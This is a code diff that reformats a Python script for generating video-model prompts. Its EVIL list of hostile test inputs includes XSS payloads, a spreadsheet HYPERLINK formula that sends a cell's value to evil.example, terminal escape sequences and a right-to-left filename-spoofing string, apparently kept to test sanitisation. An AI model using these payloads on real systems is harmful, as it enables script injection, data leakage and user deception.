@@ -15,7 +15,14 @@ VENDORS = {
     "anyfast": "seedance-mini",
     "jimmyai": "seedance-2.0-fast",
 }
-SUBJECTS = ("A lighthouse keeper", "Two foxes", "A red tram", "An old violin maker", "The harbour pilot", "A paper kite")
+SUBJECTS = (
+    "A lighthouse keeper",
+    "Two foxes",
+    "A red tram",
+    "An old violin maker",
+    "The harbour pilot",
+    "A paper kite",
+)
 SCENES = (
     "walks along the breakwater at first light, long lens, gulls crossing the frame, the sea almost still",
     "cross a snowy orchard; the camera follows at shoulder height and settles on the tracks they leave",
@@ -34,7 +41,7 @@ EVIL = [
     "<script>alert(1)</script>",
     "</script><script>window.harmed = 1</script>",
     "\"><img src=x onerror='window.harmed=1'>",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "javascript:window.harmed=1",
     "bell \x07 escape \x1b[2J\x1b]0;owned\x07 null \x00 delete \x7f c1 \x9b31m",
     "txt.\u202eexe.gnp\u202c isolate \u2067 never closed",
